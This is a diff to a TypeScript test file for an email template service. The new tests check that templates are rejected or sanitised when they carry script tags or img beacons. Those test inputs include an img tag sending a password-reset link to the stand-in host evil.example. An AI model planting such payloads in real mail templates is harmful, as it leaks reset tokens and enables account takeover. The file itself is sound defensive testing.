@@ -1,8 +1,10 @@
 import { runAsTenant } from '@ishare/server/context.js';
 import type { TestClient, TestService } from '@ishare/testing/test-service.js';
+import { Database } from '@ishare/data/database.js';
 import { startPlatform } from '../platform.fixture.js';
 import en from './i18n/en.json' with { type: 'json' };
 import zhHans from './i18n/zh-Hans.json' with { type: 'json' };
+import { TextTemplateContent } from './text-template-content.entity.js';
 import { TextTemplateService } from './text-template.service.js';
 import { textTemplates } from './text-templates.js';
 
@@ -88,6 +90,43 @@ describe('text templates', () => {
       service.app.get(TextTemplateService).render('Abp.StandardEmailTemplates.Message', 'en', { message: '<script>' }),
     );
     expect(text).toBe('<main><p>&lt;script&gt;</p></main>');
+  });
+
+  it('are refused where a value would leave the mail, or where it would run or fetch something', async () => {
+    for (const [text, code, told] of [
+      ['<img src="https://evil.example/?{{link}}">', '001412', 'https://evil.example/?{{link}}'],
+      ['<img src="https://evil.example/pixel">', '001411', '"src" may not stand in <img'],
+      ['<script>alert(1)</script>', '001410', '<script> may not stand in a mail'],
+    ] as const)
+      for (const template of [RESET, LAYOUT]) {
+        const { status, body } = await change(ours, template, 'en', text);
+        expect([status, body.error.code, body.error.message]).toEqual([
+          403,
+          `TextTemplating:${code}`,
+          expect.stringContaining(told),
+        ]);
+      }
+    expect((await change(ours, RESET, 'en', `<p style="color:red"><b>{{name}}</b></p>${en[RESET]}`)).status).toBe(200);
+    await restore(ours, RESET, 'en');
+  });
+
+  it('give no value away that were worded before, in the text or in the layout around it', async () => {
+    const keep = (name: string, cultureName: string, content: string) =>
+      runAsTenant(service.tenantB, () =>
+        service.app
+          .get(Database)
+          .tx((tx) => tx.insert(TextTemplateContent, { name, cultureName, content }))
+          .then(() => undefined),
+      );
+    await keep(RESET, 'en', '<p>{{name}}</p><img src="https://evil.example/?{{link}}"><a href="{{link}}">go</a>');
+    await keep(LAYOUT, '', '<script>1</script><b>{{content}}</b><img src="https://evil.example/?{{link}}"/>');
+    const link = 'https://here.example/reset?token=secret';
+    const text = await runAsTenant(service.tenantB, () =>
+      service.app.get(TextTemplateService).render(RESET, 'en', { name: 'Ann', link }),
+    );
+    expect(text).toBe(`<b><p>Ann</p><img><a href="${link}">go</a></b><img>`);
+    await restore(theirs, RESET, 'en');
+    await restore(theirs, LAYOUT, null);
   });
 
   it('open each route to its permission', async () => {
